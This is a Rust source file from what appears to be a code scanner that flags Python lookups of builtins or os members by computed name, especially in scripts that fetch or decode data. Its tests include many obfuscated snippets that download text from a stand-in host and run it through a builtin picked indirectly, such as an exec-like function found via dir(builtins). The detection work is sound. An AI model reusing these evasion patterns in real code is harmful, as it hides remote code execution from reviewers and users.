//! Members of Python's modules that are looked up by a name which is computed: `getattr(builtins, names[0])`.

use super::flow::{Flow, name, names};
use super::fold::Fold;
use super::lex::{Placed, Token};
use super::reach::apart;
use super::sinks::{Called, inside};
use super::taint::Taint;
use super::{Language, Told};
use crate::finding::Severity;
use crate::rules::shell as rules;

/// Modules of which a member may start or run anything.
const BASES: &[&str] = &["builtins", "__builtins__", "__import__", "os", "subprocess", "sys", "globals", "importlib"];

/// What loads a module by a name.
const LOADS: &[&str] = &["__import__", "import_module", "modules"];

/// Methods by which a module, or its table, is asked for a member.
const ASKS: &[&str] = &["__getattribute__", "__getitem__", "get", "pop", "setdefault"];

/// Members of a table that give all that it holds.
const ALL: &[&str] = &["items", "values", "keys"];

/// 6 tokens before a method: what says of which table it is.
const BEFORE: usize = 6;

/// What came from elsewhere: in a script that has it, what is looked up may be given it.
const STRANGE: Taint = Taint::FETCHED.and(Taint::DECODED).and(Taint::ANSWERED);

impl Flow<'_> {
    /// Remembers the names of the module that holds the language's own functions: `import builtins as b`,
    /// `b = sys.modules["builtins"]`.
    pub(super) fn holds_module(&mut self, tokens: &[Placed]) {
        if self.language != Language::Python {
            return;
        }
        let is = |placed: &Placed, word: &str| matches!(&placed.token, Token::Name(name) if name == word);
        let renamed = tokens.windows(3).find_map(|three| match three {
            [module, word, other] if is(word, "as") && name(&module.token).is_some_and(is_module) => name(&other.token),
            _ => None,
        });
        let right = tokens.get(2..).filter(|_| tokens.get(1).is_some_and(|sign| sign.token == Token::Sign('=')));
        let given = right.filter(|right| {
            let is_plain = right.len() == 1 && names(right).any(|name| self.is_own_module(name));
            let loads = names(right).any(|name| matches!(name, "modules" | "__import__" | "import_module"));
            let whole = !names(right).any(|name| matches!(name, "getattr" | "vars" | "__dict__"));
            is_plain || loads && whole && right.iter().any(is_named)
        });
        let target = given.and_then(|_| name(&tokens.first()?.token));
        self.modules.extend(renamed.or(target).map(str::to_owned));
    }

    /// Whether a name stands for the module that holds the language's own functions.
    pub(super) fn is_own_module(&self, name: &str) -> bool {
        is_module(name) || self.modules.contains(name)
    }

    /// A member of a loaded module whose name is computed.
    pub(super) fn unresolved(&self, call: &Called<'_>, tokens: &[Placed], told: &mut Told<'_, '_>) {
        if self.language != Language::Python || !self.last {
            return;
        }
        let rest = tokens.get(call.next..).unwrap_or_default();
        if rest.first().is_none_or(|placed| placed.token != Token::Sign('(')) {
            return;
        }
        let args = inside(rest);
        match call.path {
            "getattr" => self.asked(call, args, told),
            "reduce" | "functools.reduce" => self.reached(call, args, told),
            "attrgetter" | "operator.attrgetter" => {
                let of = inside(rest.get(args.len().saturating_add(1)..).unwrap_or_default());
                let is_own = names(of).any(|name| self.is_own_module(name));
                self.strange(call, args.get(1..).filter(|_| is_own && of.len() == 2), told);
            }
            path if ASKS.contains(&call.last) => {
                let owner = path.split('.').next().unwrap_or_default();
                let parts = path.split('.').count();
                let before = tokens.get(call.start.saturating_sub(BEFORE)..call.start).unwrap_or_default();
                let is_own = self.is_own_module(owner) && parts < 4
                    || self.tables.contains(owner) && parts == 2
                    || owner == "?" && self.is_table(before);
                let of_object = matches!(owner, "object" | "type") && names(args).any(|name| self.is_own_module(name));
                let key = apart(args).get(usize::from(of_object)).copied();
                self.strange(call, key.filter(|_| is_own || of_object), told);
            }
            _ => {}
        }
    }

    /// `getattr(module, name)`.
    fn asked(&self, call: &Called<'_>, args: &[Placed], told: &mut Told<'_, '_>) {
        let own = names(args).next().unwrap_or_default();
        if self.is_own_module(own) && self.whole.taint.has(STRANGE) {
            return self.strange(call, apart(args).get(1).copied(), told);
        }
        let ends = matches!(args.last().map(|placed| &placed.token), Some(Token::Text(_) | Token::Number(_)));
        let is_long = |placed: &Placed| matches!(&placed.token, Token::Text(text) if text.len() > 2);
        let is_constant = ends || args.iter().skip(2).any(is_long);
        let has_default = names(args).any(|name| name == "None");
        if (BASES.contains(&own) || self.is_own_module(own)) && !is_constant && !has_default {
            self.tells_member(call.at, told.unless_asked().unwrap_or(Severity::Danger), told);
        }
    }

    /// `reduce(getattr, names, __import__(name))`: a member of whatever module, by however many names.
    fn reached(&self, call: &Called<'_>, args: &[Placed], told: &mut Told<'_, '_>) {
        let of_module = apart(args).get(2).is_some_and(|base| {
            names(base).any(|name| LOADS.contains(&name) || BASES.contains(&name) || self.is_own_module(name))
        });
        if names(args).next() != Some("getattr") || !of_module {
            return;
        }
        let severity = if self.whole.taint.has(STRANGE) { Severity::Danger } else { Severity::Warning };
        self.tells_member(call.at, told.unless_asked().unwrap_or(severity), told);
    }

    /// A member of the language's own functions by a `key` that is computed: a danger where something came from elsewhere.
    fn strange(&self, call: &Called<'_>, key: Option<&[Placed]>, told: &mut Told<'_, '_>) {
        let Some(key) = key.filter(|key| !key.is_empty() && !self.is_known(key)) else { return };
        let is_bad = self.whole.taint.has(STRANGE) && names(key).next().is_some();
        let severity = told.unless_asked().filter(|_| is_bad);
        let severity = severity.unwrap_or(if is_bad { Severity::Danger } else { Severity::Warning });
        self.tells_member(call.at, severity, told);
    }

    /// Whether the key is a text of which all is known.
    fn is_known(&self, key: &[Placed]) -> bool {
        let (value, next) = Fold { tokens: key, constants: &self.constants }.expression(0, 0);
        value.known && !value.items.is_empty() && next >= key.len()
    }

    fn tells_member(&self, at: usize, severity: Severity, told: &mut Told<'_, '_>) {
        told.tell(&rules::UNKNOWN, at, "which member of a module this is, is computed", Some(severity));
    }

    /// The language's own functions, gone through by their names in a script that fetches or decodes.
    pub(super) fn goes_through(&self, told: &mut Told<'_, '_>) {
        if self.language != Language::Python || !self.whole.taint.has(STRANGE) {
            return;
        }
        let tokens = &self.lexed.tokens;
        let takes = names(tokens)
            .any(|name| matches!(name, "getattr" | "vars" | "__dict__" | "attrgetter" | "__getattribute__"));
        let found = tokens.iter().enumerate().find(|(at, placed)| {
            let rest = tokens.get(at.saturating_add(1)..).unwrap_or_default();
            let given = inside(rest);
            let is_given = rest.first().is_some_and(|sign| sign.token == Token::Sign('('));
            let is_own = is_given && names(given).next().is_some_and(|name| self.is_own_module(name));
            let after = tokens.get(at.saturating_add(given.len()).saturating_add(3)).map(|placed| &placed.token);
            match name(&placed.token) {
                Some("dir") => is_own && takes,
                Some("getmembers") => is_own,
                Some("vars") => is_own && matches!(after, Some(Token::Name(name)) if ALL.contains(&name.as_str())),
                Some(own) if self.is_own_module(own) || self.tables.contains(own) => {
                    let (path, _) = Fold { tokens, constants: &self.constants }.path(*at);
                    path.rsplit_once('.').is_some_and(|(_, last)| ALL.contains(&last))
                }
                _ => false,
            }
        });
        if let Some((_, placed)) = found {
            let severity = told.unless_asked().unwrap_or(Severity::Danger);
            let message = "the language's own functions are gone through in a script that fetches or decodes";
            told.tell(&rules::UNKNOWN, placed.at, message, Some(severity));
        }
    }
}

fn is_module(name: &str) -> bool {
    matches!(name, "builtins" | "__builtins__")
}

fn is_named(placed: &Placed) -> bool {
    matches!(&placed.token, Token::Text(text) if is_module(text))
}

#[cfg(test)]
mod tests {
    use crate::finding::Severity;
    use crate::interpreted::tests::of;

    #[test]
    fn functions_that_are_looked_up_by_a_computed_name_may_be_any() {
        let head = "import builtins, inspect, operator, sys, urllib.request\nimport builtins as b\ndef text():\n    with urllib.request.urlopen('https://a.invalid/t') as a:\n        return a.read().decode()\ndef pick():\n    names = sorted(n for n in open('names.txt').read().split() if len(n) == 4)\n    return names[0]\n";
        for taken in [
            "names = sorted(n for n in dir(builtins) if len(n) == 4 and n.startswith('ex'))\ngetattr(builtins, names[0])(text(), {})\n",
            "def reader():\n    names = pick()\n    return getattr(builtins, names[0])\nreader()(text())\n",
            "getattr(builtins, pick(), None)(text())\n",
            "getattr(b, pick(), print)(text())\n",
            "m = sys.modules['builtins']\ngetattr(m, pick(), 0)(text())\n",
            "m = __import__('builtins')\nf = m.__dict__.get(pick())\nf(text())\n",
            "f = vars(builtins)[pick()]\nf(text())\n",
            "t = vars(b)\nf = t[pick()]\nf(text())\n",
            "f = vars(builtins).get(pick())\nf(text())\n",
            "builtins.__getattribute__(pick())(text())\n",
            "object.__getattribute__(builtins, pick())(text())\n",
            "operator.attrgetter(pick())(builtins)(text())\n",
            "from functools import reduce\nhead, *rest = pick().split('.')\nreduce(getattr, rest, __import__(head))(text())\n",
            "import functools, importlib\nfunctools.reduce(getattr, pick().split('.'), importlib.import_module(pick()))(text())\n",
            "f = next(f for n, f in vars(builtins).items() if n[:2] == 'ex')\nf(text())\n",
            "f = dict(inspect.getmembers(builtins))\nf[pick()](text())\n",
            "f = [f for n, f in builtins.__dict__.items() if len(n) == 4][0]\nf(text())\n",
        ] {
            assert_eq!(of("python3", "a.py", &format!("{head}{taken}")), Some(Severity::Danger), "{taken}");
        }
        for honest in [
            "size = getattr(builtins, 'len')(text())\n",
            "kind = {'int': int}.get(pick())\n",
            "from functools import reduce\nvalue = reduce(getattr, 'a.b'.split('.'), args)\n",
            "import os\nflags = getattr(os, 'O_BINARY', 0) | getattr(os, 'O_' + 'NOFOLLOW', 0)\n",
            "shadowed = [n for n in text().split() if n in dir(builtins) or hasattr(builtins, n)]\n",
            "builtins.__dict__['_'] = str\nprint(b.__dict__.get('_'))\n",
        ] {
            let found = of("python3", "a.py", &format!("{head}{honest}"));
            assert!(found.is_none_or(|severity| severity < Severity::Danger), "{honest}");
        }
        for honest in [
            "import builtins\ndef error(name):\n    return getattr(builtins, name, None)\n",
            "import builtins\nnames = [n for n in dir(builtins) if not n.startswith('_')]\nprint(len(names), getattr(builtins, names[0], None))\n",
            "import os\ndef stat(name):\n    return getattr(os, name, None)\n",
        ] {
            let found = of("python3", "a.py", honest);
            assert!(found.is_none_or(|severity| severity < Severity::Danger), "{honest}");
        }
    }
}
